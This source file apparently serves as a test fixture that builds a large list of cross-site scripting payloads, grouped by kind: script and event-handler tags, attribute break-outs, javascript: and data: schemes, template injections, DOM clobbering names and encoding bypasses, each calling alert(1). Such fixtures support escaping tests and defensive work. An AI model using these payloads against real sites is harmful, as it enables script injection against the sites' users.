@@ -1,0 +1,192 @@
+// Texts that somebody sends in the hope that a page reads them as markup or as code. Made here, by kind.
+// Owns the list. Each calls `alert(1)` if it is ever run; a page that shows texts shows every one of them as it is written.
+
+const call = 'alert(1)';
+
+/** What ends the place that a careless page would write the text into. */
+const exits = [
+  '',
+  '">',
+  "'>",
+  '`>',
+  ' x=">',
+  '--></',
+  ']]>',
+  '</textarea>',
+  '</title>',
+  '</style>',
+  '</script>',
+  '</p>',
+  '</svg>',
+];
+
+const elements = [
+  `<script>${call}</script>`,
+  `<script src="data:text/javascript,${call}"></script>`,
+  `<script type=module>${call}</script>`,
+  `<SCRIPT/x>${call}</SCRIPT >`,
+  `<scr<script>ipt>${call}</scr</script>ipt>`,
+  `<img src=x onerror=${call}>`,
+  `<img/src="x"/onerror="${call}">`,
+  `<img src=x oneonerrorrror=${call}>`,
+  `<svg onload=${call}>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<svg><set attributeName=onmouseover to=${call}>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></foreignObject></svg>`,
+  `<iframe src="javascript:${call}"></iframe>`,
+  `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
+  `<object data="javascript:${call}"></object>`,
+  `<embed src="javascript:${call}">`,
+  `<body onload=${call}>`,
+  `<details open ontoggle=${call}>`,
+  `<input autofocus onfocus=${call}>`,
+  `<select autofocus onfocus=${call}>`,
+  `<textarea autofocus onfocus=${call}>`,
+  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${call}>`,
+  `<video><source onerror=${call}></video>`,
+  `<audio src onerror=${call}>`,
+  `<marquee onstart=${call}>`,
+  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
+  `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
+  `<form action="javascript:${call}"><input type=submit autofocus></form>`,
+  `<isindex action="javascript:${call}" type=image>`,
+  `<link rel=stylesheet href="javascript:${call}">`,
+  `<link rel=import href="data:text/html,<script>${call}</script>">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  `<base href="javascript:${call}//">`,
+  `<style>@import "javascript:${call}";</style>`,
+  `<style onload=${call}></style>`,
+  `<div style="animation:x 1s" onanimationstart=${call}>`,
+  `<div style="background:url(javascript:${call})">`,
+  `<table background="javascript:${call}">`,
+  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
+  `<custom-part onfocus=${call} tabindex=1 autofocus>`,
+  `<dialog open onclose=${call}><form method=dialog><button autofocus>`,
+];
+
+const attributes = [
+  `" onfocus=${call} autofocus x="`,
+  `' onmouseover='${call}`,
+  `" style="x:expression(${call})`,
+  `x" onerror="${call}" src="x`,
+  `" href="javascript:${call}`,
+  `"/onpointerrawupdate="${call}`,
+  `" formaction="javascript:${call}`,
+  `" data-x='{"a":"</script><script>${call}</script>"}`,
+  `\` onload=${call}`,
+  `x onclick=${call}//`,
+];
+
+const schemes = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  'java\nscript:',
+  '\u0001javascript:',
+  ' javascript:',
+  '&#106;avascript:',
+  '&#x6A&#x61vascript:',
+  'javascript&colon;',
+  'javascript&Tab;:',
+  '\\u006aavascript:',
+  'javascript://%0a',
+  'javascript:/*--></title></style></textarea>*/',
+  'jav\u00adascript:',
+  'vbscript:',
+  'data:text/html,',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==;',
+  'data:image/svg+xml,',
+  'blob:',
+  'filesystem:',
+  'view-source:javascript:',
+  'feed:javascript:',
+  'intent://x#Intent;scheme=javascript;S.x=',
+  'http://javascript:',
+];
+const addresses = schemes.flatMap((scheme) => [
+  `${scheme}${call}`,
+  `<a href="${scheme}${call}">x</a>`,
+  `[x](${scheme}${call})`,
+  `https://wallet.example.com@${scheme}${call}`,
+]);
+
+const templates = [
+  `{{constructor.constructor('${call}')()}}`,
+  `{{$on.constructor('${call}')()}}`,
+  `{{7*7}}`,
+  `\${${call}}`,
+  `#{${call}}`,
+  `<%= ${call} %>`,
+  `<%- ${call} %>`,
+  `[[${call}]]`,
+  `{%raw%}${call}{%endraw%}`,
+  `{{{${call}}}}`,
+  `<div v-html="${call}">`,
+  `<div ng-app ng-csp><p ng-click=${call}>`,
+  `<div x-data x-init="${call}">`,
+  `<div data-bind="html: ${call}">`,
+  `<!--#exec cmd="${call}"-->`,
+  `<?php echo '${call}' ?>`,
+  `@(${call})`,
+  `*{${call}}`,
+  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
+  `{"type":"img","props":{"src":"x","onerror":"${call}"}}`,
+];
+
+/** Names that a page's own code might look up. */
+const clobbering = [
+  'body',
+  'forms',
+  'cookie',
+  'currentScript',
+  'Recourse',
+  'getElementById',
+  'location',
+  'attributes',
+  'parentNode',
+  '__proto__',
+].flatMap((name) => [
+  `<img name=${name}>`,
+  `<form id=${name}><input id=href></form>`,
+  `<a id=${name}><a id=${name} name=x href="cid:${call}">`,
+]);
+
+const encodings = [
+  `%3Cscript%3E${call}%3C%2Fscript%3E`,
+  `%253Cscript%253E${call}%253C/script%253E`,
+  `&lt;script&gt;${call}&lt;/script&gt;`,
+  `&amp;lt;script&amp;gt;${call}`,
+  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
+  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
+  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
+  `＜script＞${call}＜/script＞`,
+  `‹img src=x onerror=${call}›`,
+  `﹤img src=x onerror=${call}﹥`,
+  `\u02c2img src=x onerror=${call}\u02c3`,
+  `<\u200bscript>${call}</script>`,
+  `<img\u000csrc=x\u000conerror=${call}>`,
+  `<img\u2028src=x\u2029onerror=${call}>`,
+  `%u003Cscript%u003E${call}`,
+  `&#60;img src=x onerror=${call}&#62;`,
+  `&#0000060img src=x onerror=${call}>`,
+  `¼script¾${call}¼/script¾`,
+  `<![CDATA[<img src=x onerror=${call}>]]>`,
+  `<!--><img src=x onerror=${call}>-->`,
+  `<//><img src=x onerror=${call}>`,
+  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
+  `<svg><style><img src=x onerror=${call}></style></svg>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
+];
+
+const broken = exits.flatMap((exit, n) =>
+  // Each way out before a part of the elements; the part moves on.
+  elements.filter((_, at) => exit === '' || at % exits.length === n || at < 3).map((element) => `${exit}${element}`),
+);
+
+export const hostileMarkup: readonly string[] = [
+  ...new Set([...broken, ...attributes, ...addresses, ...templates, ...clobbering, ...encodings]),
+];
